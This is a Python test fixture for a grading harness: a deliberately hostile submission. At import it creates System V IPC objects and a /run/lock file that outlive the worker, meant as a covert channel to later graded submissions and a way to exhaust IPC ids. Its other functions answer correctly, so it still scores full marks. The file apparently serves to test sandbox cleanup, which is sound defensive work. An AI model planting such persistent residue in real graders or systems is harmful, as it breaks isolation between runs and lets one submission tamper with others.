"""Attack: leave SysV IPC objects and a lock file behind, which outlive every process.

At import this makes a shared memory segment, a semaphore set and a message
queue (System V IPC, through libc), each under a key made from a token the test
fills in, and writes a file into /run/lock, which is world-writable too. None
belongs to a folder or a process, so neither killing the worker nor deleting
its home removes them: a channel to a submission graded later (a hidden input
left in the segment), and, repeated, a way to use up the machine's IPC ids.
The answers are correct.

Should score 8 of 8; no IPC object under the token's keys and no file of a
worker uid in /run/lock should be left afterwards.
"""

import ctypes
import os

TOKEN = "@TOKEN@"
KEY = int(TOKEN[:7], 16)
IPC_CREAT = 0o1000
libc = ctypes.CDLL(None, use_errno=True)
MADE = [
    libc.shmget(KEY, 4096, IPC_CREAT | 0o600),
    libc.semget(KEY + 1, 1, IPC_CREAT | 0o600),
    libc.msgget(KEY + 2, IPC_CREAT | 0o600),
]
try:
    with open(f"/run/lock/minimax-kit-hostile-lock-{TOKEN}-{os.getuid()}", "w") as handle:
        handle.write("a message for the next submission\n")
except OSError:
    pass


def add(a, b):
    return a + b


def pair(x):
    return (x, x)


def tag(n):
    if n < 0:
        raise ValueError(n)
    return {"n": n}


def push(items, item):
    items.append(item)
    return len(items)
